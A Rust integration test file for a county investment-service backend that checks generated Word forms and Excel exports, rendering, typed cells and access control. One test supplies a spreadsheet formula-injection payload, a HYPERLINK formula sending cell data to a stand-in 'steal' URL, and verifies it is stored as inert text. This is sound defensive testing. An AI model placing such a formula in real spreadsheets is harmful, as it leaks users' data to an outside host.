//! The county's forms as Word files and the exports as workbooks, through the API: every form
//! of the demo cases carries the case's data, a form renders its Chinese text through
//! LibreOffice, workbooks have typed cells and a frozen header, text a spreadsheet would run
//! stays text, and nobody downloads the forms of a case they may not see.

use std::io::{Cursor, Read};
use std::path::Path;
use std::process::Command;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use serde_json::{Value, json};

use crate::helpers::*;

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const KINDS: [&str; 7] = ["application", "agreement", "plan", "task_sheet", "completion", "termination", "evaluation"];

/// A downloaded file.
struct File {
    status: u16,
    content_type: String,
    disposition: String,
    bytes: Vec<u8>,
}

async fn download(app: &TestApp, token: &str, path: &str) -> File {
    let res = app.client.get(format!("{}{path}", app.base)).bearer_auth(token).send().await.expect("request");
    let header = |name: &str| res.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    let (status, content_type, disposition) =
        (res.status().as_u16(), header("content-type"), header("content-disposition"));
    let bytes = res.bytes().await.expect("body").to_vec();
    File { status, content_type, disposition, bytes }
}

/// One part of a zip (a .docx or .xlsx) as text.
fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip");
    let mut text = String::new();
    archive.by_name(name).unwrap_or_else(|_| panic!("no {name}")).read_to_string(&mut text).expect("utf-8");
    text
}

/// The text of a Word file's body, tags removed and entities read.
fn docx_text(bytes: &[u8]) -> String {
    let xml = part(bytes, "word/document.xml");
    let mut text = String::new();
    let mut in_tag = false;
    for c in xml.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            c if !in_tag => text.push(c),
            _ => {}
        }
    }
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'").replace("&amp;", "&")
}

fn assert_docx(f: &File, what: &str) {
    assert_eq!(f.status, 200, "{what}: {}", String::from_utf8_lossy(&f.bytes));
    assert_eq!(f.content_type, DOCX, "{what}");
    assert!(f.bytes.starts_with(b"PK"), "{what} is no zip");
    // 附件 in UTF-8, percent-encoded (RFC 5987).
    assert!(f.disposition.starts_with("attachment;"), "{what}: {}", f.disposition);
    assert!(f.disposition.contains("filename*=UTF-8''%E9%99%84%E4%BB%B6"), "{what}: {}", f.disposition);
    assert!(f.disposition.ends_with(".docx"), "{what}: {}", f.disposition);
}

fn workbook(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("an xlsx")
}

fn rows_of(bytes: &[u8]) -> Vec<Vec<Data>> {
    let mut wb = workbook(bytes);
    let name = wb.sheet_names()[0].clone();
    wb.worksheet_range(&name).expect("a sheet").rows().map(<[Data]>::to_vec).collect()
}

fn assert_xlsx(f: &File, what: &str) {
    assert_eq!(f.status, 200, "{what}: {}", String::from_utf8_lossy(&f.bytes));
    assert_eq!(f.content_type, XLSX, "{what}");
    assert!(
        f.disposition.contains("filename*=UTF-8''") && f.disposition.ends_with(".xlsx"),
        "{what}: {}",
        f.disposition
    );
    // The header row is frozen.
    let sheet = part(&f.bytes, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""), "{what}: no frozen header");
}

/// The demo cases, by state.
async fn demo_cases(app: &TestApp, token: &str) -> Vec<Value> {
    let r = app.get("/api/v1/cases?limit=50", token).await;
    let mut cases = Vec::new();
    for c in r.body["items"].as_array().unwrap() {
        cases.push(app.get(&format!("/api/v1/cases/{}", c["id"].as_str().unwrap()), token).await.body);
    }
    cases
}

fn in_state<'a>(cases: &'a [Value], state: &str) -> &'a Value {
    cases.iter().find(|c| c["state"] == state).unwrap_or_else(|| panic!("no demo case is {state}"))
}

async fn every_form_of_a_case_carries_its_data(backend: Backend) {
    let app = spawn_app_with(backend, Options { demo_cases: true, ..Options::default() }).await;
    let office = app.token("office").await;
    let cases = demo_cases(&app, &office).await;
    for state in ["in_service", "completed", "terminated"] {
        let c = in_state(&cases, state);
        let id = c["id"].as_str().unwrap();
        let number = c["number"].as_str().unwrap();
        let name = c["enterprise"]["name"].as_str().unwrap();
        let project = c["project_name"].as_str().unwrap();
        for kind in KINDS {
            let f = download(&app, &office, &format!("/api/v1/cases/{id}/forms/{kind}")).await;
            if kind == "task_sheet" && c["tasks"].as_array().unwrap().is_empty() {
                assert_eq!(f.status, 422, "{state} {kind}");
                continue;
            }
            assert_docx(&f, &format!("{state} {kind}"));
            let text = docx_text(&f.bytes);
            assert!(text.contains(number) && text.contains(project), "{state} {kind}: {text}");
            if kind != "plan" {
                assert!(text.contains(name), "{state} {kind} lacks the enterprise: {text}");
            }
        }
        let text = |bytes: &[u8]| docx_text(bytes);
        let application = download(&app, &office, &format!("/api/v1/cases/{id}/forms/application")).await;
        let application = text(&application.bytes);
        assert!(application.starts_with("附件2"), "{application}");
        assert!(application.contains("招商引资重大项目帮办代办服务申请受理表"));
        assert!(application.contains(c["enterprise"]["credit_code"].as_str().unwrap()));
        // The phone is masked, as in every list.
        let phone = c["contact_phone_masked"].as_str().unwrap();
        assert!(phone.contains("****") && application.contains(phone), "{application}");
        for item in c["items"].as_array().unwrap() {
            assert!(application.contains(item["name"].as_str().unwrap()), "{application}");
        }
        // One 附件5 per sheet, with its item and department's result.
        for (n, t) in c["tasks"].as_array().unwrap().iter().enumerate().take(3) {
            let sheet = t["id"].as_str().unwrap();
            let f = download(&app, &office, &format!("/api/v1/cases/{id}/forms/task_sheet?sheet_id={sheet}")).await;
            assert_docx(&f, &format!("{state} sheet {n}"));
            let body = text(&f.bytes);
            assert!(body.contains(t["item_name"].as_str().unwrap()), "{body}");
            assert!(body.contains("任务分送单回执"), "{body}");
            if let Some(doc) = t["document_number"].as_str() {
                assert!(body.contains(doc), "{body}");
            }
        }
        let completion = text(&download(&app, &office, &format!("/api/v1/cases/{id}/forms/completion")).await.bytes);
        let termination = text(&download(&app, &office, &format!("/api/v1/cases/{id}/forms/termination")).await.bytes);
        match state {
            "completed" => {
                assert!(completion.contains("办结日期") && completion.contains("年"), "{completion}");
                for t in c["tasks"].as_array().unwrap() {
                    if let (Some(doc), "approval") = (t["document_number"].as_str(), t["kind"].as_str().unwrap()) {
                        assert!(completion.contains(doc), "{completion}");
                    }
                }
            }
            "terminated" => {
                let reason = c["closing_reason"].as_str().unwrap();
                assert!(termination.contains(reason), "{termination}");
            }
            _ => {
                // Not there yet: the closing forms print blank, to fill in by hand.
                assert!(completion.contains("待企业签字确认"), "{completion}");
            }
        }
    }
    // The plan also as a workbook: one row per planned item, typed.
    let c = in_state(&cases, "in_service");
    let f = download(&app, &office, &format!("/api/v1/cases/{}/plan.xlsx", c["id"].as_str().unwrap())).await;
    assert_xlsx(&f, "plan");
    let rows = rows_of(&f.bytes);
    assert_eq!(rows[0][0], Data::String("序号".into()));
    let planned: Vec<&Value> = c["items"].as_array().unwrap().iter().filter(|i| i["planned"] == true).collect();
    assert_eq!(rows.len(), planned.len() + 1);
    for (row, item) in rows[1..].iter().zip(&planned) {
        assert_eq!(row[0], Data::Float(item["position"].as_f64().unwrap()), "{row:?}");
        assert_eq!(row[1], Data::String(item["name"].as_str().unwrap().into()));
        if item["forecast_end"].is_string() {
            assert!(matches!(row[10], Data::DateTime(_)), "the forecast is a date: {row:?}");
        }
    }
    // The case number is ASCII: it stays readable in the encoded name.
    assert!(f.disposition.contains(c["number"].as_str().unwrap()), "{}", f.disposition);
}

/// LibreOffice converts a generated form to PDF and its text (the Chinese title, the
/// enterprise) is there. Fails when `soffice` is missing, unless BUTLER_TEST_SKIP_SOFFICE=1
/// says so on purpose (CI never sets it). With BUTLER_FORMS_PNG=FILE it also writes the first
/// page as a PNG (docs/forms/application-form.png is made this way).
async fn a_form_renders_its_chinese_text_through_libreoffice(backend: Backend) {
    if std::env::var("BUTLER_TEST_SKIP_SOFFICE").is_ok_and(|v| v == "1") {
        return;
    }
    let app = spawn_app_with(backend, Options { demo_cases: true, ..Options::default() }).await;
    let office = app.token("office").await;
    let cases = demo_cases(&app, &office).await;
    let c = in_state(&cases, "in_service");
    let f = download(&app, &office, &format!("/api/v1/cases/{}/forms/application", c["id"].as_str().unwrap())).await;
    assert_docx(&f, "application");
    let dir = tempfile::tempdir().unwrap();
    let docx = dir.path().join("application.docx");
    std::fs::write(&docx, &f.bytes).unwrap();
    let out = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}", dir.path().join("profile").display()))
        .args(["--headless", "--convert-to", "pdf", "--outdir"])
        .arg(dir.path())
        .arg(&docx)
        .output()
        .expect("soffice (LibreOffice) must be installed: apt-get install libreoffice-writer-nogui fonts-noto-cjk");
    let pdf = dir.path().join("application.pdf");
    assert!(pdf.exists(), "no PDF: {}", String::from_utf8_lossy(&out.stderr));
    let text =
        Command::new("pdftotext").arg(&pdf).arg("-").output().expect("pdftotext (poppler-utils) must be installed");
    let text = String::from_utf8_lossy(&text.stdout).replace([' ', '\n'], "");
    assert!(text.contains("申请受理表"), "{text}");
    assert!(text.contains("招商引资重大项目帮办代办服务"), "{text}");
    assert!(text.contains(&c["enterprise"]["name"].as_str().unwrap().replace(' ', "")), "{text}");
    if let Ok(png) = std::env::var("BUTLER_FORMS_PNG") {
        write_png(&pdf, Path::new(&png));
    }
}

fn write_png(pdf: &Path, png: &Path) {
    let stem = png.with_extension("");
    let status = Command::new("pdftoppm")
        .args(["-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile"])
        .arg(pdf)
        .arg(&stem)
        .status()
        .expect("pdftoppm");
    assert!(status.success());
}

async fn workbooks_have_typed_cells_and_a_frozen_header(backend: Backend) {
    let app = spawn_app_with(backend, Options { demo_cases: true, ..Options::default() }).await;
    let office = app.token("office").await;

    // The catalog (the template's 事项 sheet first): every item of the list, the maximum
    // extension a number.
    let f = download(&app, &office, "/api/v1/items/export.xlsx").await;
    assert_xlsx(&f, "catalog");
    let items = app.get("/api/v1/items?limit=200", &office).await.body["items"].as_array().unwrap().clone();
    let rows = rows_of(&f.bytes);
    assert_eq!(rows.len(), items.len() + 1);
    assert_eq!(rows[0][1], Data::String("事项名称".into()));
    assert_eq!(rows[0][10], Data::String("最长延期（工作日）".into()));
    assert!(rows[1..].iter().any(|r| matches!(r[10], Data::Float(_))), "{:?}", rows[1]);
    let names: Vec<String> = rows[1..].iter().map(|r| r[1].to_string()).collect();
    for i in &items {
        assert!(names.contains(&i["name"].as_str().unwrap().to_owned()));
    }
    // The list's filters apply.
    let one = items[0]["name"].as_str().unwrap();
    let f = download(&app, &office, &format!("/api/v1/items/export.xlsx?q={}", encode(one))).await;
    assert!(rows_of(&f.bytes)[1..].iter().all(|r| r[1].to_string().contains(one)));

    // The case register: the caller's list, investment in 万元 as a number, phones masked.
    let f = download(&app, &office, "/api/v1/cases/export.xlsx").await;
    assert_xlsx(&f, "register");
    let rows = rows_of(&f.bytes);
    let listed = app.get("/api/v1/cases?limit=200", &office).await.body["items"].as_array().unwrap().clone();
    assert_eq!(rows.len(), listed.len() + 1);
    for c in &listed {
        let row = rows.iter().find(|r| r[0] == c["number"].as_str().unwrap()).unwrap();
        assert_eq!(row[4], Data::Float(c["total_investment_fen"].as_f64().unwrap() / 1_000_000.0));
        assert!(row[8].to_string().contains("****"), "{row:?}");
        assert!(matches!(row[11], Data::DateTime(_)), "{row:?}");
    }
    let f = download(&app, &office, "/api/v1/cases/export.xlsx?state=completed").await;
    assert!(rows_of(&f.bytes)[1..].iter().all(|r| r[3] == Data::String("已办结".into())));
    let f = download(&app, &office, "/api/v1/cases/export.xlsx?state=nonsense").await;
    assert_eq!(f.status, 422);
    // An enterprise's register holds its own cases only.
    let enterprise = app.token("enterprise").await;
    let own = app.get("/api/v1/cases?limit=200", &enterprise).await.body["items"].as_array().unwrap().len();
    let f = download(&app, &enterprise, "/api/v1/cases/export.xlsx").await;
    assert_eq!(rows_of(&f.bytes).len(), own + 1);
    assert!(own < listed.len());

    // The statistics: the same figures as the page, the total last, rates as numbers.
    let stats = app.get("/api/v1/statistics/sheets", &office).await.body;
    let f = download(&app, &office, "/api/v1/supervision/statistics.xlsx").await;
    assert_xlsx(&f, "statistics");
    let rows = rows_of(&f.bytes);
    assert_eq!(rows.len(), stats["rows"].as_array().unwrap().len() + 2);
    let total = rows.last().unwrap();
    assert_eq!(total[0], Data::String("合计".into()));
    assert_eq!(total[1], Data::Float(stats["total"]["received"].as_f64().unwrap()));
    assert_eq!(total[12], Data::Float(stats["total"]["overdue_now"].as_f64().unwrap()));
    let f = download(&app, &office, "/api/v1/supervision/statistics.xlsx?from=2026-12-01&to=2026-11-01").await;
    assert_eq!(f.status, 422);
    let f = download(&app, &enterprise, "/api/v1/supervision/statistics.xlsx").await;
    assert_eq!(f.status, 403);
}

fn encode(text: &str) -> String {
    text.bytes()
        .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
        .collect()
}

/// A project named like a formula is written as text (quote prefix): it reads back as the
/// same string, and the sheet holds no formula.
async fn a_hostile_project_name_stays_text_in_the_register(backend: Backend) {
    let app = spawn_app(backend).await;
    let admin = app.token("admin").await;
    let items = app.get("/api/v1/items?limit=1", &admin).await.body["items"].clone();
    let hostile = "=HYPERLINK(\"http://example.invalid/steal?\"&A1,\"点击查看\")";
    let enterprise = app.token("enterprise").await;
    let application = json!({
        "project_name": hostile,
        "industry_code": "C2662",
        "total_investment_fen": 12_000_000_000i64,
        "location": "-1+1 金碧镇",
        "brief": "@SUM(1,2)",
        "contact_name": "周晓明",
        "contact_phone": "13800000031",
        "items": [{"catalog_item_id": items[0]["id"]}]
    });
    let created = app.post("/api/v1/cases", &enterprise, application).await;
    assert_eq!(created.status, 201, "{}", created.body);
    let f = download(&app, &enterprise, "/api/v1/cases/export.xlsx").await;
    assert_xlsx(&f, "register");
    let rows = rows_of(&f.bytes);
    assert_eq!(rows[1][1], Data::String(hostile.into()));
    assert_eq!(rows[1][5], Data::String("-1+1 金碧镇".into()));
    let sheet = part(&f.bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "a formula was written");
    let mut wb = workbook(&f.bytes);
    let name = wb.sheet_names()[0].clone();
    let formulas = wb.worksheet_formula(&name).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
    // The cells that would run carry the quote prefix (the stored form of a leading apostrophe).
    let styles = part(&f.bytes, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    let guarded = quoted_styles(&styles);
    for cell in ["B2", "F2"] {
        let style = style_of(&sheet, cell);
        assert!(guarded.contains(&style), "{cell} has style {style}, not one of {guarded:?}");
    }
    let plain = style_of(&sheet, "A2");
    assert!(!guarded.contains(&plain), "plain text (the case number) is not prefixed");
}

/// The indexes of the cell formats (cellXfs) with the quote prefix.
fn quoted_styles(styles: &str) -> Vec<usize> {
    let xfs = styles.split("<cellXfs").nth(1).unwrap().split("</cellXfs>").next().unwrap();
    xfs.split("<xf ").skip(1).enumerate().filter(|(_, xf)| xf.contains("quotePrefix=\"1\"")).map(|(i, _)| i).collect()
}

/// The style index of a cell in a sheet's XML.
fn style_of(sheet: &str, cell: &str) -> usize {
    let at = sheet.find(&format!("<c r=\"{cell}\"")).unwrap_or_else(|| panic!("no {cell}"));
    let tag = &sheet[at..at + sheet[at..].find('>').unwrap()];
    tag.split("s=\"").nth(1).map_or(0, |s| s.split('"').next().unwrap().parse().unwrap())
}

async fn forms_of_a_case_the_caller_may_not_see_are_not_found(backend: Backend) {
    let app = spawn_app_with(backend, Options { demo_cases: true, ..Options::default() }).await;
    let enterprise = app.token("enterprise").await;
    let other = app.token("enterprise-2").await;
    let own = app.get("/api/v1/cases?limit=50", &enterprise).await.body["items"][0].clone();
    let id = own["id"].as_str().unwrap();
    // Its own enterprise may have them.
    assert_docx(&download(&app, &enterprise, &format!("/api/v1/cases/{id}/forms/application")).await, "own");
    for path in [format!("/api/v1/cases/{id}/forms/application"), format!("/api/v1/cases/{id}/plan.xlsx")] {
        let f = download(&app, &other, &path).await;
        assert_eq!(f.status, 404, "{path}");
        let body: Value = serde_json::from_slice(&f.bytes).unwrap();
        assert_eq!(body["code"], "not_found");
    }
    let office = app.token("office").await;
    let unknown = download(&app, &office, &format!("/api/v1/cases/{id}/forms/receipt")).await;
    assert_eq!(unknown.status, 404);
    let no_case = download(&app, &office, "/api/v1/cases/0193a0c2-0000-7000-8000-000000000003/forms/application").await;
    assert_eq!(no_case.status, 404);
    let wrong_sheet = download(
        &app,
        &office,
        &format!("/api/v1/cases/{id}/forms/task_sheet?sheet_id=0193a0c2-0000-7000-8000-000000000003"),
    )
    .await;
    assert_eq!(wrong_sheet.status, 404);
    let anonymous = app.client.get(format!("{}/api/v1/cases/{id}/forms/application", app.base)).send().await.unwrap();
    assert_eq!(anonymous.status().as_u16(), 401);
}

/// The forms the case file (一事一档) takes, as the application renders them: those that apply
/// to the case's state, one 附件5 per sheet.
async fn a_case_holds_the_forms_that_apply_to_its_state(backend: Backend) {
    use butler_domain::policy::Actor;
    use butler_domain::role::Role;
    let app = spawn_app_with(backend, Options { demo_cases: true, ..Options::default() }).await;
    let office = app.token("office").await;
    let me = app.get("/api/v1/me", &office).await.body;
    let db = app.db().await;
    let tenant = butler_persistence::repo::tenants::find_by_code(&db, "dayao").await.unwrap().unwrap();
    let actor = Actor {
        user_id: me["id"].as_str().unwrap().parse().unwrap(),
        tenant_id: tenant.id,
        role: Role::Office,
        department_id: None,
        enterprise_id: None,
    };
    let ctx = butler_app::Context::new(db, app.clock.clone(), true);
    let cases = demo_cases(&app, &office).await;
    let annexes = |files: &[butler_app::forms::RenderedFile]| -> Vec<String> {
        files.iter().map(|f| f.file_name.split('-').next().unwrap().to_owned()).collect()
    };
    for (state, expected) in [
        ("draft", vec!["附件2"]),
        ("in_service", vec!["附件2", "附件3", "附件4"]),
        ("completed", vec!["附件2", "附件3", "附件4", "附件7", "附件9"]),
        ("terminated", vec!["附件2", "附件3", "附件4", "附件8", "附件9"]),
    ] {
        let c = in_state(&cases, state);
        let id = c["id"].as_str().unwrap().parse().unwrap();
        let files = butler_app::forms::case_forms(&ctx, &actor, id).await.unwrap();
        let got = annexes(&files);
        let sheets = c["tasks"].as_array().unwrap().len();
        assert_eq!(got.iter().filter(|a| *a == "附件5").count(), sheets, "{state}: one 附件5 per sheet");
        let without_sheets: Vec<&str> = got.iter().map(String::as_str).filter(|a| *a != "附件5").collect();
        assert_eq!(without_sheets, expected, "{state}");
        assert!(files.iter().all(|f| f.bytes.starts_with(b"PK") && f.file_name.ends_with(".docx")));
    }
    // Not for someone who may not see the case.
    let other = in_state(&cases, "in_service")["id"].as_str().unwrap().parse().unwrap();
    let stranger = Actor { role: Role::Enterprise, enterprise_id: Some(uuid::Uuid::nil()), ..actor };
    assert!(butler_app::forms::case_forms(&ctx, &stranger, other).await.is_err());
}

crate::on_both_databases!(
    a_case_holds_the_forms_that_apply_to_its_state,
    every_form_of_a_case_carries_its_data,
    a_form_renders_its_chinese_text_through_libreoffice,
    workbooks_have_typed_cells_and_a_frozen_header,
    a_hostile_project_name_stays_text_in_the_register,
    forms_of_a_case_the_caller_may_not_see_are_not_found,
);
